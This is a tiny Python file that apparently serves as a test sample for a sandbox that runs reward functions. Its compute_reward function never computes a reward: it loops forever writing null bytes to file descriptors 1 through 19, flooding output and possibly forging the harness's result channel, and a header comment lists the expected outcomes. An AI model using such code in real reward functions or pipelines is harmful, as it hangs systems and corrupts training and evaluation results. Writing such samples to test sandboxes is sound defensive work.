# expects: time, forged, flood, died
import os


def compute_reward(obs, action, next_obs, info):
    while True:
        for number in range(1, 20):
            try:
                os.write(number, b"\0" * 4096)
            except OSError:
                continue
